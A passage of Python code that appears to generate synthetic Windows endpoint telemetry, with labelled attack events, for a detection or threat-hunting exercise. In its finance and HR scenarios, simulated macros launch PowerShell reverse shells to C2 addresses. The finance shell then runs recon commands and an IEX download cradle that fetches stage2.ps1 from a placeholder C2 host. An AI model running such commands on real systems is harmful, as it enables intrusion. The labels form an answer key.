        ("RPCSS", svchost("RPCSS"), NETWORK_SERVICE),
        ("Schedule", svchost("netsvcs", "Schedule"), SYSTEM),
        ("wuauserv", svchost("netsvcs", "wuauserv"), SYSTEM),
        ("gpsvc", svchost("netsvcs", "gpsvc"), SYSTEM),
        ("seclogon", svchost("netsvcs", "seclogon"), SYSTEM),
        ("Dnscache", svchost("NetworkService", "Dnscache"), NETWORK_SERVICE),
        ("DoSvc", svchost("NetworkService", "DoSvc"), NETWORK_SERVICE),
        ("TermService", svchost("NetworkService", "TermService", p=False), NETWORK_SERVICE),
        ("UsoSvc", svchost("netsvcs", "UsoSvc"), SYSTEM),
    ]
    moment = services.created
    for key, cmdline, account in hosts:
        moment += dev.ms(40, 700)
        dev.procs[key] = dev.spawn(services, "svchost", cmdline, moment, account,
                                   pid=dev.new_pid(1_000, 5_000))
    moment += dev.ms(500, 3_000)
    dev.procs["MsMpEng"] = dev.spawn(services, "MsMpEng", f'"{PLATFORM_DIR}MsMpEng.exe"', moment)
    moment += dev.ms(500, 3_000)
    dev.procs["MsSense"] = dev.spawn(
        services, "MsSense", f'"{BINARIES["MsSense"].path}"', moment)
    if not dev.server:
        moment += dev.ms(2_000, 9_000)
        dev.procs["SearchIndexer"] = dev.spawn(
            services, "SearchIndexer", "C:\\Windows\\system32\\SearchIndexer.exe /Embedding",
            moment)
    if dev.server:
        moment += dev.ms(2_000, 9_000)
        dev.procs["ContosoOrders"] = dev.spawn(
            services, "ContosoOrders.Api", "C:\\Apps\\ContosoOrders\\ContosoOrders.Api.exe "
            "--urls https://+:8443 --environment Production", moment, LOCAL_SERVICE)


def logon(dev: Device, who: Account, at: datetime, rdp: bool = False) -> Proc:
    """Interactive logon: userinit, explorer, the shell hosts and the autostart programs."""
    rng = dev.rng
    user = who.name
    winlogon = dev.procs["winlogon"]
    if rdp:
        winlogon = dev.spawn(dev.procs["smss"], "winlogon", "winlogon.exe", at, SYSTEM)
        at = winlogon.created + dev.ms(3_000, 9_000)
    userinit = dev.spawn(winlogon, "userinit", "C:\\Windows\\system32\\userinit.exe", at, who)
    explorer = dev.child(userinit, "explorer", "C:\\Windows\\Explorer.EXE", lo=300, hi=1_200)
    dev.procs["explorer"] = explorer
    dev.spawn(dev.procs["DcomLaunch"], "sihost", "sihost.exe", at - dev.ms(200, 600), who)
    dev.spawn(dev.procs["Schedule"], "taskhostw", "taskhostw.exe {222A245B-E637-4AE9-A93F-"
              "A59CA119A75E}", at + dev.ms(100, 900), who)
    dev.spawn(dev.procs["DcomLaunch"], "RuntimeBroker",
              "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", at + dev.ms(2_000, 6_000),
              who)
    if rdp:
        dev.spawn(dev.procs["TermService"], "rdpclip", "rdpclip", at + dev.ms(1_000, 3_000), who)
        return explorer
    tray = explorer.created + dev.ms(4_000, 9_000)
    dev.spawn(explorer, "SecurityHealthSystray",
              '"C:\\Windows\\System32\\SecurityHealthSystray.exe"', tray)
    dev.procs["OneDrive"] = dev.spawn(explorer, "OneDrive", '"C:\\Program Files\\Microsoft '
                                      'OneDrive\\OneDrive.exe" /background', tray + dev.ms(50, 900))
    teams = dev.spawn(explorer, "ms-teams", f'"{BINARIES["ms-teams"].path}" '
                      "msteams:system-initiated", tray + dev.ms(1_000, 4_000))
    dev.procs["ms-teams"] = teams
    webview = dev.child(teams, "msedgewebview2", webview_cmd(rng, user, "main"), lo=900, hi=3_000)
    dev.procs["teams-webview"] = webview
    for _ in range(2):
        dev.child(webview, "msedgewebview2", webview_cmd(rng, user, "renderer"), lo=100, hi=2_500)
    return explorer


def start_edge(dev: Device, parent: Proc, user: str, at: datetime) -> Proc:
    rng = dev.rng
    main = dev.spawn(parent, "msedge", edge_cmd(rng, user, "main"), at)
    dev.child(main, "msedge", edge_cmd(rng, user, "crashpad"), lo=20, hi=80)
    dev.child(main, "msedge", edge_cmd(rng, user, "gpu"), lo=200, hi=600)
    dev.procs["edge-net"] = dev.child(main, "msedge", edge_cmd(rng, user, "network"),
                                      lo=220, hi=700)
    dev.child(main, "msedge", edge_cmd(rng, user, "storage"), lo=250, hi=800)
    for _ in range(2):
        dev.child(main, "msedge", edge_cmd(rng, user, "renderer"), lo=400, hi=3_000)
    dev.procs["msedge"] = main
    return main


def pre_day_session(day: Day, dev: Device, who: Account) -> None:
    """A user session that began before the day (no events): the processes exist as parents."""
    rng = dev.rng
    user = who.name
    at = day.start - timedelta(days=1) + timedelta(hours=rng.uniform(7.5, 9.0))
    logon(dev, who, at)
    start_edge(dev, dev.procs["explorer"], user, at + timedelta(minutes=rng.uniform(2, 20)))
    dev.procs["OUTLOOK"] = dev.spawn(dev.procs["explorer"], "OUTLOOK",
                                     f'"{OFFICE_DIR}OUTLOOK.EXE" ',
                                     at + timedelta(minutes=rng.uniform(1, 10)))


def background(day: Day, dev: Device) -> None:
    """What Windows and the agents do all day, whoever is logged on."""
    rng = dev.rng
    sense, mpeng = dev.procs["MsSense"], dev.procs["MsMpEng"]
    for minute in range(0, 24 * 60, 60):
        moment = day.at(0, minute + rng.uniform(0, 55))
        if moment > sense.created:
            dev.connect(sense, moment, rng.choice(SENSE_SITES), 443)
    for hour in range(0, 24, 2):
        moment = day.at(hour, rng.uniform(0, 110))
        if moment > mpeng.created:
            dev.connect(mpeng, moment, rng.choice(DEFENDER_SITES), 443)
    lsass = dev.procs["lsass"]
    for hour in range(0, 24, 3):
        moment = day.at(hour, rng.uniform(0, 170))
        if moment > lsass.created:
            dev.connect(lsass, moment, DC01, 88)
    gpsvc = dev.procs["gpsvc"]
    for minute in range(rng.randrange(0, 90), 24 * 60, 90 + rng.randrange(0, 30)):
        moment = day.at(0, minute)
        if moment > gpsvc.created:
            dev.connect(gpsvc, moment, DC01, 389)
    schedule = dev.procs["Schedule"]
    for when in (rng.uniform(3, 5), rng.uniform(14, 17)):
        moment = day.at(when)
        if moment < schedule.created:
            continue
        signatures = dev.spawn(schedule, "MpCmdRun", f'"{PLATFORM_DIR}MpCmdRun.exe" '
                               "-SignatureUpdate", moment)
        dev.connect(signatures, signatures.created + dev.ms(300, 2_000),
                    ("definitionupdates.microsoft.com", "13.107.4.50"), 443)
    for when in (rng.uniform(1, 23), rng.uniform(1, 23)):
        moment = day.at(when)
        if moment > dev.procs["DcomLaunch"].created:
            dev.spawn(dev.procs["DcomLaunch"], "WmiPrvSE",
                      "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", moment,
                      NETWORK_SERVICE)
    scan = day.at(rng.uniform(9.5, 11))
    if scan > schedule.created:
        uso = dev.spawn(schedule, "usoclient", "C:\\Windows\\system32\\usoclient.exe StartScan",
                        scan)
        worker = dev.spawn(dev.procs["DcomLaunch"], "MoUsoCoreWorker",
                           "C:\\Windows\\uus\\AMD64\\MoUsoCoreWorker.exe", uso.created
                           + dev.ms(300, 900))
        for site in WU_SITES:
            dev.connect(worker, worker.created + dev.ms(900, 9_000), site, 443)
        dev.connect(dev.procs["wuauserv"], worker.created + dev.ms(2_000, 9_000),
                    ("fe2cr.update.microsoft.com", "20.72.205.209"), 443)
    telemetry = day.at(rng.uniform(2, 4))
    if telemetry > schedule.created:
        runner = dev.spawn(schedule, "CompatTelRunner",
                           "C:\\Windows\\system32\\compattelrunner.exe", telemetry)
        dev.child(runner, "CompatTelRunner", "C:\\Windows\\system32\\CompatTelRunner.exe "
                  "-m:appraiser.dll -f:DoScheduledTelemetryRun -cv:"
                  f"{base64.b64encode(rng.randbytes(12)).decode()}.2", lo=300, hi=2_000)
    inventory(day, dev)
    housekeeping(day, dev)


def housekeeping(day: Day, dev: Device) -> None:
    """Search indexing, Defender and Windows maintenance tasks, WMI, service starts, batches."""
    rng = dev.rng
    schedule, dcom, services = dev.procs["Schedule"], dev.procs["DcomLaunch"], dev.procs["services"]

    def spawn(parent: Proc, key: str, cmdline: str, moment: datetime,
              account: Account | None = None) -> Proc | None:
        if moment <= parent.created:
            return None
        return dev.spawn(parent, key, cmdline, moment, account)

    indexer = dev.procs.get("SearchIndexer")
    if indexer is not None:
        minute = rng.uniform(0, 40)
        while minute < 24 * 60 - 1:
            moment = day.at(0, minute)
            pipe = rng.randrange(1, 9)
            spawn(indexer, "SearchProtocolHost", '"C:\\Windows\\system32\\SearchProtocolHost.exe" '
                  f"Global\\UsGthrFltPipeMssGthrPipe{pipe}_ Global\\UsGthrCtrlFltPipeMssGthrPipe"
                  f'{pipe} 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 '
                  '(compatible; MSIE 6.0; Windows NT; MS Search 6.0 Robot)" "C:\\ProgramData\\'
                  'Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon" ', moment)
            if rng.random() < 0.4:
                handles = " ".join(str(rng.randrange(600, 1_200) // 4 * 4) for _ in range(6))
                spawn(indexer, "SearchFilterHost", '"C:\\Windows\\system32\\SearchFilterHost.exe" '
                      f"0 {handles}", moment + dev.ms(100, 900))
            minute += rng.uniform(30, 75)
    spawn(schedule, "MpCmdRun", f'"{PLATFORM_DIR}MpCmdRun.exe" -IdleTask -TaskName '
          "WdCacheMaintenance", day.between(0.5, 6))
    spawn(schedule, "MpCmdRun", f'"{PLATFORM_DIR}MpCmdRun.exe" Scan -ScheduleJob -ScanTrigger 55 '
          "-IdleScheduledJob", day.between(1, 5))
    spawn(schedule, "wermgr", "C:\\Windows\\system32\\wermgr.exe -upload", day.between(0, 23))
    spawn(schedule, "sihclient", "C:\\Windows\\System32\\sihclient.exe  /cv "
          f"{base64.b64encode(rng.randbytes(12)).decode()}.0.1", day.between(6, 20))
    for _ in range(3):
        spawn(dcom, "WmiPrvSE", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
              day.between(0.2, 23.8), NETWORK_SERVICE)
    for group, service, account in rng.sample([
            ("netsvcs", "BITS", SYSTEM), ("netsvcs", "wlidsvc", SYSTEM),
            ("LocalSystemNetworkRestricted", "PcaSvc", SYSTEM),
            ("netsvcs", "TokenBroker", SYSTEM), ("LocalService", "W32Time", LOCAL_SERVICE),
            ("LocalServiceNetworkRestricted", "lmhosts", LOCAL_SERVICE),
            ("netsvcs", "Appinfo", SYSTEM), ("wsappx", "ClipSVC", SYSTEM)], 4):
        spawn(services, "svchost", svchost(group, service), day.between(0.1, 23.9), account)
    batch = "rotate_logs" if dev.server else "collect_logs"
    for hour in range(rng.randrange(0, 4), 24, 4):
        job = spawn(schedule, "cmd", 'C:\\Windows\\system32\\cmd.exe /c '
                    f'"C:\\ProgramData\\Contoso\\Scripts\\{batch}.cmd"',
                    day.at(hour, rng.uniform(0, 50)))
        if job is None:
            continue
        dev.console(job)
        if dev.server:
            dev.child(job, "forfiles", "forfiles  /p D:\\Apps\\ContosoOrders\\logs /m *.log "
                      '/d -14 /c "cmd /c del /q @path"', lo=30, hi=120)
            continue
        for log in ("System", "Application"):
            dev.child(job, "wevtutil", f"wevtutil  epl {log} C:\\ProgramData\\Contoso\\Logs\\"
                      f"{log}.evtx /ow:true", lo=30, hi=600)


def inventory(day: Day, dev: Device) -> None:
    """The company's daily inventory task: a hidden -File script that uploads to the intranet."""
    schedule = dev.procs["Schedule"]
    moment = day.at(dev.rng.uniform(11.9, 12.4))
    if moment < schedule.created:
        return
    script = dev.spawn(schedule, "powershell", "powershell.exe -NoProfile -NonInteractive "
                       "-WindowStyle Hidden -ExecutionPolicy Bypass -File "
                       '"C:\\ProgramData\\Contoso\\Scripts\\Invoke-Inventory.ps1"', moment)
    dev.console(script)
    row = dev.connect(script, script.created + dev.ms(1_500, 4_000), INTRANET, 443)
    if dev.name.startswith("ws-sales"):
        day.mark_process("inventory-file-script", dev, script)
        day.mark("inventory-file-script-network", dev, NETWORK_TABLE, row)
    cleanup = dev.spawn(schedule, "cmd", 'C:\\Windows\\system32\\cmd.exe /c '
                        '"C:\\ProgramData\\Contoso\\Scripts\\cleanup_temp.cmd"',
                        moment + timedelta(minutes=dev.rng.uniform(5, 20)))
    dev.console(cleanup)
    dev.child(cleanup, "forfiles", 'forfiles  /p C:\\Windows\\Temp /s /m *.tmp /d -7 /c '
              '"cmd /c del /q @path"', lo=40, hi=200)


def workday(day: Day, dev: Device, who: Person, begin: float, end: float) -> None:
    """A user's working hours: mail, chat, browsing, documents."""
    rng = dev.rng
    account, user = who.account, who.account.name
    explorer = dev.procs["explorer"]
    lunch = rng.uniform(12.0, 12.6)
    edge_net, teams, outlook = dev.procs["edge-net"], dev.procs["ms-teams"], dev.procs["OUTLOOK"]
    hour = begin
    while hour < end:
        hour += rng.uniform(0.08, 0.25)
        if lunch <= hour < lunch + 0.75 or hour >= end:
            continue
        moment = day.at(hour)
        dev.connect(edge_net, moment, rng.choice(EDGE_SITES), 443)
        if rng.random() < 0.45:
            dev.connect(teams, moment + dev.ms(500, 60_000), rng.choice(TEAMS_SITES), 443)
        if rng.random() < 0.4:
            dev.connect(outlook, moment + dev.ms(500, 60_000), rng.choice(OUTLOOK_SITES), 443)
        if rng.random() < 0.2:
            dev.spawn(dev.procs["msedge"], "msedge", edge_cmd(rng, user, "renderer"),
                      moment + dev.ms(100, 30_000))
        if rng.random() < 0.08:
            dev.spawn(dev.procs["teams-webview"], "msedgewebview2",
                      webview_cmd(rng, user, "renderer"), moment + dev.ms(100, 30_000))
        if rng.random() < 0.1:
            dev.spawn(dev.procs["DcomLaunch"], "backgroundTaskHost",
                      '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:'
                      + rng.choice(["BackgroundTaskHost.WebAccountProvider",
                                    "App.AppXtk181tbxbce2qsex02s8tw7hfxa9xb3t.mca",
                                    "Microsoft.Windows.StartMenuExperienceHost"
                                    ".AppX1ws3rqy7mbdk4w3v1fmvbebp2ymw24gc.mca"]),
                      moment + dev.ms(100, 30_000), account)
    onedrive = dev.procs["OneDrive"]
    for _ in range(6):
        dev.connect(onedrive, day.between(begin, end), ("contoso-my.sharepoint.com",
                                                        "13.107.136.11"), 443)
    documents = [
        ("WINWORD", "Documents\\Meeting notes {n}.docx"), ("EXCEL", "Documents\\Budget {n}.xlsx"),
        ("EXCEL", "OneDrive - Contoso\\Reports\\Weekly KPIs {n}.xlsx"),
        ("POWERPNT", "OneDrive - Contoso\\Decks\\Team update {n}.pptx"),
        ("WINWORD", "Downloads\\Policy draft v{n}.docx"),
    ]
    for _ in range(rng.randint(3, 6)):
        key, path = rng.choice(documents)
        file = f"C:\\Users\\{user}\\{path.format(n=rng.randint(2, 48))}"
        dev.spawn(explorer, key, f'"{OFFICE_DIR}{key}.EXE" /n "{file}" /o ""',
                  day.between(begin + 0.2, end - 0.2))
    for _ in range(rng.randint(2, 4)):
        link = f"https://contoso.sharepoint.com/sites/{rng.choice(['Finance', 'HR', 'Intranet', 'Sales', 'IT'])}/SitePages/Home.aspx"  # noqa: E501
        dev.spawn(rng.choice([outlook, teams]), "msedge",
                  f'"{EDGE_EXE}" --single-argument {link}', day.between(begin + 0.1, end))
    for _ in range(rng.randint(1, 2)):
        dev.spawn(dev.procs["DcomLaunch"], "smartscreen",
                  "C:\\Windows\\System32\\smartscreen.exe -Embedding", day.between(begin, end),
                  account)
    for _ in range(rng.randint(1, 3)):
        dev.spawn(dev.procs["DcomLaunch"], "dllhost", "C:\\Windows\\system32\\DllHost.exe "
                  "/Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
                  day.between(begin, end), account)
    if rng.random() < 0.7:
        dev.spawn(explorer, "Notepad", f'"{BINARIES["Notepad"].path}" ',
                  day.between(begin, end))
    updater = day.between(begin, end)
    dev.spawn(dev.procs["Schedule"], "MicrosoftEdgeUpdate",
              f'"{BINARIES["MicrosoftEdgeUpdate"].path}" /ua /installsource scheduler', updater)
    dev.spawn(dev.procs["Schedule"], "OneDriveStandaloneUpdater",
              f'"{BINARIES["OneDriveStandaloneUpdater"].path}" /reporting',
              day.between(begin, end), account)


def morning_logon(day: Day, dev: Device, who: Person, at: datetime) -> None:
    explorer = logon(dev, who.account, at)
    rng = dev.rng
    start_edge(dev, explorer, who.account.name, explorer.created + timedelta(
        minutes=rng.uniform(1, 6)))
    dev.procs["OUTLOOK"] = dev.spawn(explorer, "OUTLOOK", f'"{OFFICE_DIR}OUTLOOK.EXE" ',
                                     explorer.created + timedelta(minutes=rng.uniform(0.5, 4)))


def patch_reboot(day: Day, dev: Device, at: datetime) -> None:
    """Windows Update installs and restarts the device overnight."""
    dev.spawn(dev.procs["services"], "TrustedInstaller",
              "C:\\Windows\\servicing\\TrustedInstaller.exe", at)
    worker = dev.spawn(dev.procs["DcomLaunch"], "MoUsoCoreWorker",
                       "C:\\Windows\\uus\\AMD64\\MoUsoCoreWorker.exe", at - dev.ms(5_000, 9_000))
    dev.connect(worker, worker.created + dev.ms(100, 900), WU_SITES[0], 443)
    dev.connect(dev.procs["DoSvc"], worker.created + dev.ms(2_000, 9_000),
                ("7.tlu.dl.delivery.mp.microsoft.com", "23.218.218.187"), 80)
    dev.procs.clear()
    dev.used_pids.clear()
    boot(dev, at + timedelta(minutes=dev.rng.uniform(6, 11)))


# --- Scenarios of the devices -------------------------------------------------------------

def scenario_finance(day: Day, dev: Device, who: Person) -> None:
    """ws-fin-014: Alice opens a mailed Word document; its macro starts a reverse shell.
    Later the attacker pulls a script through a download cradle from that shell."""
    rng = dev.rng
    pre_day_session(day, dev, who.account)
    background(day, dev)
    workday(day, dev, who, rng.uniform(8.0, 8.4), rng.uniform(17.0, 17.6))
    user = who.account.name
    outlook = dev.procs["OUTLOOK"]
    cache = (f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook"
             "\\7QX2M1KD\\Invoice_INV-20448.doc")
    word = dev.spawn(outlook, "WINWORD", f'"{OFFICE_DIR}WINWORD.EXE" /n "{cache}" /o ""',
                     day.at(9, 13, 41))
    shell = REVSHELLS_PS2.format(ip=C2_PLAIN[0], port=C2_PLAIN[1])
    cmd = dev.spawn(word, "cmd", f'cmd.exe /c powershell -nop -c "{shell}"', day.at(9, 14, 6))
    dev.console(cmd)
    ps = dev.child(cmd, "powershell", f'powershell  -nop -c "{shell}"', lo=30, hi=90)
    net = dev.connect(ps, ps.created + dev.ms(400, 900), ("", C2_PLAIN[0]), C2_PLAIN[1],
                      url=False)
    day.mark_process("attack-1-tcpclient-plaintext", dev, ps)
    day.mark_process("attack-1-tcpclient-plaintext/launcher", dev, cmd)
    day.mark("attack-1-tcpclient-plaintext/c2", dev, NETWORK_TABLE, net)
    # The operator's commands run as children of the shell.
    for minute, key, command in ((16, "whoami", '"C:\\Windows\\system32\\whoami.exe" /all'),
                                 (17, "ipconfig", '"C:\\Windows\\system32\\ipconfig.exe" /all')):
        dev.spawn(ps, key, command, day.at(9, minute, rng.uniform(0, 59)))
    net_exe = dev.spawn(ps, "net", '"C:\\Windows\\system32\\net.exe" group "Domain Admins" '
                        "/domain", day.at(9, 19, rng.uniform(0, 59)))
    dev.child(net_exe, "net1", 'C:\\Windows\\system32\\net1 group "Domain Admins" /domain',
              lo=5, hi=30)
    cradle_url = f"http://{C2_CRADLE[0]}:{C2_CRADLE[1]}/stage2.ps1"
    cradle = dev.spawn(ps, "powershell", "powershell.exe -nop -w hidden -c \"IEX (New-Object "
                       f"Net.WebClient).DownloadString('{cradle_url}')\"", day.at(19, 27, 3))
    net = dev.connect(cradle, cradle.created + dev.ms(300, 800), ("", C2_CRADLE[0]),
                      C2_CRADLE[1], url=False)
    day.mark_process("attack-3-download-cradle", dev, cradle)
    day.mark("attack-3-download-cradle/c2", dev, NETWORK_TABLE, net)
    # The lateral movement of attack 4 starts here: WMI from the shell to the application server.
    lateral = dev.connect(ps, day.at(21, 43, 8), ("srv-app-02.corp.contoso.com", "10.20.2.22"),
                          135)
    day.moments["wmi-rpc"] = parse_iso(lateral["Timestamp"])
    day.mark("attack-4-file-script-public-connection/wmi-from-ws-fin-014", dev, NETWORK_TABLE,
             lateral)


def scenario_hr(day: Day, dev: Device, who: Person) -> None:
    """ws-hr-022: an Excel attachment starts the same shell, -EncodedCommand-encoded."""
    rng = dev.rng
    pre_day_session(day, dev, who.account)
    background(day, dev)
    workday(day, dev, who, rng.uniform(8.5, 9.0), rng.uniform(17.2, 17.8))
    user = who.account.name
    cache = (f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook"
             "\\R2B8W0QZ\\Payroll adjustments Nov.xlsm")
    excel = dev.spawn(dev.procs["OUTLOOK"], "EXCEL", f'"{OFFICE_DIR}EXCEL.EXE" "{cache}"',
                      day.at(13, 51, 22))
    payload = encode_command(REVSHELLS_PAYLOAD.format(ip=C2_ENCODED[0], port=C2_ENCODED[1]))
    cmd = dev.spawn(excel, "cmd", f"cmd.exe /c powershell -nop -w hidden -e {payload}",
                    day.at(13, 52, 4))
    dev.console(cmd)
    ps = dev.child(cmd, "powershell", f"powershell  -nop -w hidden -e {payload}", lo=30, hi=90)
    net = dev.connect(ps, ps.created + dev.ms(500, 1_200), ("", C2_ENCODED[0]), C2_ENCODED[1],
                      url=False)
    day.mark_process("attack-2-tcpclient-encoded", dev, ps)
    day.mark_process("attack-2-tcpclient-encoded/launcher", dev, cmd)
    day.mark("attack-2-tcpclient-encoded/c2", dev, NETWORK_TABLE, net)


def scenario_engineer(day: Day, dev: Device, who: Person) -> None:
    """ws-eng-031: rebooted for patches overnight; a developer with pwsh, git and VS Code."""
    rng = dev.rng
    patch_reboot(day, dev, day.at(3, rng.uniform(0, 20)))
    background(day, dev)
    begin = rng.uniform(8.6, 9.2)
    morning_logon(day, dev, who, day.at(begin))
    workday(day, dev, who, begin + 0.1, rng.uniform(17.8, 18.4))
    explorer, account = dev.procs["explorer"], who.account
    terminal = dev.spawn(explorer, "WindowsTerminal", f'"{BINARIES["WindowsTerminal"].path}" ',
                         day.at(begin + 0.3))
    pwsh = dev.child(terminal, "pwsh", '"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -NoLogo',
                     lo=200, hi=800)
    code = dev.spawn(explorer, "Code", '"C:\\Program Files\\Microsoft VS Code\\Code.exe" ',
                     day.at(begin + 0.35))
    for hour in sorted(rng.uniform(begin + 0.4, 17.5) for _ in range(5)):
        git = dev.spawn(pwsh, "git", '"C:\\Program Files\\Git\\cmd\\git.exe" fetch origin',
                        day.at(hour))
        remote = dev.child(git, "git-remote-https", f'"{BINARIES["git-remote-https"].path}" '
                           "origin https://github.com/contoso/orders-api.git", lo=30, hi=120)
        dev.connect(remote, remote.created + dev.ms(50, 400), ("github.com", "140.82.121.4"), 443)
    for hour in sorted(rng.uniform(begin + 0.4, 17.5) for _ in range(6)):
        dev.connect(code, day.at(hour), rng.choice([
            ("marketplace.visualstudio.com", "13.107.42.18"),
            ("update.code.visualstudio.com", "13.107.246.40"),
            ("api.github.com", "140.82.121.6")]), 443)
    shell = dev.child(code, "pwsh", '"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -noexit '
                      '-command "try { . \\"c:\\Program Files\\Microsoft VS Code\\resources\\app'
                      '\\out\\vs\\workbench\\contrib\\terminal\\common\\scripts\\'
                      'shellIntegration.ps1\\" } catch {}"', lo=4_000, hi=20_000)
    dev.console(shell)
    for hour in sorted(rng.uniform(begin + 0.4, 17.8) for _ in range(14)):
        dev.spawn(code, "git", '"C:\\Program Files\\Git\\cmd\\git.exe" status -z -uall',
                  day.at(hour))
    for hour in sorted(rng.uniform(begin + 0.5, 17.5) for _ in range(4)):
        build = dev.spawn(shell, "dotnet", '"C:\\Program Files\\dotnet\\dotnet.exe" build '
                          ".\\src\\Orders.Api.sln -c Debug", day.at(hour))
        dev.child(build, "dotnet", '"C:\\Program Files\\dotnet\\dotnet.exe" "C:\\Program Files'
                  '\\dotnet\\sdk\\10.0.100\\MSBuild.dll" -nologo -nodemode:1 -nodeReuse:true '
                  "-low:false", lo=900, hi=3_000)
        dev.connect(build, build.created + dev.ms(500, 4_000), ("api.nuget.org", "13.107.246.67"),
                    443)
    cmd = dev.spawn(explorer, "cmd", '"C:\\Windows\\system32\\cmd.exe" ', day.at(14, 8))
    dev.console(cmd)
    encoded = dev.spawn(cmd, "pwsh", DOCS_PWSH_ENCODED, day.at(14, 9, 37))
    day.mark_process("pwsh-encoded-dir", dev, encoded)
    dev.spawn(pwsh, "pwsh", '"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -NoProfile -Command '
              '"Invoke-Pester -Path .\\tests -Output Detailed"', day.at(15, 41), account)


def scenario_it(day: Day, dev: Device, who: Person, admin: Account) -> Device:
    """ws-it-007: the administrator's day: a run-as admin console, remote checks, RDP."""
    rng = dev.rng
    pre_day_session(day, dev, who.account)
    background(day, dev)
    workday(day, dev, who, rng.uniform(7.6, 8.0), rng.uniform(16.5, 17.0))
    seclogon = dev.procs["seclogon"]
    console = dev.spawn(seclogon, "cmd", '"C:\\Windows\\system32\\cmd.exe" ', day.at(8, 21),
                        admin)
    dev.console(console)
    dev.spawn(seclogon, "mmc", '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\'
              'dsa.msc"', day.at(8, 24), admin)

    def ps(hour: float, command: str, key: str | None = None) -> Proc:
        proc = dev.spawn(console, "powershell", f'powershell.exe -NoProfile -Command "{command}"',
                         day.at(hour))
        if key:
            day.mark_process(key, dev, proc)
        return proc

    checks = ps(8.55, "Get-Service -ComputerName srv-app-02 -Name ContosoOrders, W3SVC | "
                "Format-Table -AutoSize", "admin-get-service")
    rpc = dev.connect(checks, checks.created + dev.ms(200, 900),
                      ("srv-app-02.corp.contoso.com", "10.20.2.22"), 135)
    day.moments["get-service-rpc"] = parse_iso(rpc["Timestamp"])
    ps(8.6, "Get-WinEvent -LogName System -MaxEvents 50 | Where-Object LevelDisplayName -eq "
       "'Error' | Format-List TimeCreated, Id, Message")
    dev.spawn(console, "powershell", DOCS_GET_WINEVENT, day.at(8.75))
    probe = ps(9.3, "$client = New-Object System.Net.Sockets.TcpClient('sql01.corp.contoso.com', "
               "1433); $client.Connected; $client.Close()", "tcpclient-port-probe")
    row = dev.connect(probe, probe.created + dev.ms(300, 700), SQL01, 1433)
    day.mark("tcpclient-port-probe/network", dev, NETWORK_TABLE, row)
    tnc = ps(9.35, "Test-NetConnection -ComputerName fs01.corp.contoso.com -Port 445",
             "test-netconnection")
    dev.connect(tnc, tnc.created + dev.ms(900, 2_000), FS01, 445)
    tnc = ps(9.4, "Test-NetConnection -ComputerName srv-app-02.corp.contoso.com -Port 5986 "
             "-InformationLevel Quiet")
    dev.connect(tnc, tnc.created + dev.ms(900, 2_000), ("srv-app-02.corp.contoso.com",
                                                        "10.20.2.22"), 5986, "ConnectionFailed")
    web = ps(11.2, "Invoke-WebRequest -Uri https://intranet.corp.contoso.com/status/health "
             "-UseBasicParsing | Select-Object -ExpandProperty StatusCode",
             "invoke-webrequest-intranet")
    dev.connect(web, web.created + dev.ms(400, 1_200), INTRANET, 443)
    ps(11.5, "Update-MpSignature -UpdateSource MicrosoftUpdateServer")
    dev.spawn(console, "MpCmdRun", '"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" '
              "-SignatureUpdate", day.at(11.52))
    dev.spawn(console, "usoclient", "usoclient StartInteractiveScan", day.at(11.6))
    helper = dev.spawn(console, "powershell", DOCS_UPDATE_HELP, day.at(15.1))
    day.mark_process("update-help-public", dev, helper)
    for host in (("go.microsoft.com", "23.55.239.123"),
                 ("pshelpprod.blob.core.windows.net", "20.60.40.4")):
        row = dev.connect(helper, helper.created + dev.ms(800, 4_000), host, 443)
        day.mark(f"update-help-public/{host[0]}", dev, NETWORK_TABLE, row)
    ps(15.6, "Get-ADUser -Filter 'Enabled -eq $false' -SearchBase "
       "'OU=Leavers,DC=corp,DC=contoso,DC=com' | Measure-Object")
    rdp = dev.spawn(dev.procs["explorer"], "mstsc", '"C:\\Windows\\system32\\mstsc.exe" '
                    "/v:srv-app-02.corp.contoso.com", day.at(10, 2, 11))
    session = dev.connect(rdp, rdp.created + dev.ms(300, 900),
                          ("srv-app-02.corp.contoso.com", "10.20.2.22"), 3389)
    day.moments["rdp"] = parse_iso(session["Timestamp"])
    return dev


def scenario_sales(day: Day, dev: Device, who: Person) -> None:
    rng = dev.rng
    patch_reboot(day, dev, day.at(3, rng.uniform(25, 45)))
    background(day, dev)
    begin = rng.uniform(8.2, 8.7)
    morning_logon(day, dev, who, day.at(begin))
    workday(day, dev, who, begin + 0.1, rng.uniform(16.8, 17.4))


def scenario_server(day: Day, dev: Device, admin: Account, workstations: Sequence[Device],
                    it_ws: Device) -> None:
    """srv-app-02: the Contoso Orders API, jobs, an admin RDP session, and attack 4 at night."""
    rng = dev.rng
    background(day, dev)
    schedule, api = dev.procs["Schedule"], dev.procs["ContosoOrders"]
    for hour in range(24):
        check = dev.spawn(schedule, "powershell", "powershell.exe -NoProfile -NonInteractive "
                          "-WindowStyle Hidden -ExecutionPolicy Bypass -File "
                          "D:\\Jobs\\Check-AppHealth.ps1", day.at(hour, 5, rng.uniform(0, 3)),
                          SYSTEM)
        dev.console(check)
        row = dev.connect(check, check.created + dev.ms(900, 2_500), SQL01, 1433)
        if hour == 21:
            day.mark_process("hourly-health-check-file", dev, check)
            day.mark("hourly-health-check-file/network", dev, NETWORK_TABLE, row)
    export_at = day.at(1, 30, rng.uniform(0, 5))
    job = dev.spawn(schedule, "cmd", 'C:\\Windows\\system32\\cmd.exe /c "D:\\Jobs\\'
                    'nightly_export.cmd"', export_at, SYSTEM)
    dev.console(job)
    yesterday = (day.start - timedelta(days=1)).strftime("%Y%m%d")
    sql = dev.child(job, "SQLCMD", f"sqlcmd  -S sql01.corp.contoso.com -E -i D:\\Jobs\\"
